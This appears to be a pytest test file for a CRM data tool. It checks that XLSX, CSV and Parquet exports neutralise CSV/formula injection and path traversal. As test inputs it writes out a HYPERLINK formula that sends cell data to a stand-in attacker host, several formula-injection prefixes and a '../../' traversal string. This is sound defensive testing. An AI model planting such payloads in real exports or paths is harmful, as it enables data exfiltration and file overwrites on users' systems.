"""Texts that attack stay texts in the files that leave: no formula, no link, no other place."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import polars as pl
import pytest

import crmlab
from tests import hostile

_FORMULAS = ("=", "+", "-", "@")


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(
    fetched: crmlab.Fetched, tmp_path: Path
) -> None:
    data = hostile.attacked(fetched, '=HYPERLINK("https://evil.example/"&A1,"x")')
    data.export(tmp_path, "xlsx")
    workbooks = list(tmp_path.rglob("*.xlsx"))
    assert workbooks
    texts = 0
    for path in workbooks:
        for sheet in openpyxl.load_workbook(path).worksheets:
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
            texts += sum("HYPERLINK" in str(cell.value) for cell in cells)
    assert texts > 100


@pytest.mark.parametrize("attack", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", ' "=1'])
def test_no_field_of_a_csv_begins_like_a_formula(
    fetched: crmlab.Fetched, tmp_path: Path, attack: str
) -> None:
    data = hostile.attacked(fetched, attack)
    data.export(tmp_path, "csv")
    texts = 0
    for path in tmp_path.rglob("*.csv"):
        with path.open(newline="", encoding="utf-8-sig") as file:
            for row in csv.DictReader(file):
                fields = [field for field in row.values() if attack.strip(' "\t\r') in field]
                assert not [field for field in fields if field.lstrip().startswith(_FORMULAS)]
                texts += len(fields)
    assert texts > 100


def test_files_stay_in_their_folder_whatever_the_texts_are(
    fetched: crmlab.Fetched, tmp_path: Path
) -> None:
    data = hostile.attacked(fetched, "../../")
    inside = tmp_path / "a" / "b" / "c"
    data.export(inside, "csv")
    data.export(inside, "parquet")
    data.report(inside / "report.html")
    outside = [
        path for path in tmp_path.rglob("*") if path.is_file() and inside not in path.parents
    ]
    assert outside == []
    assert pl.read_parquet(inside / "deals.parquet")["id"].str.starts_with("../../").all()
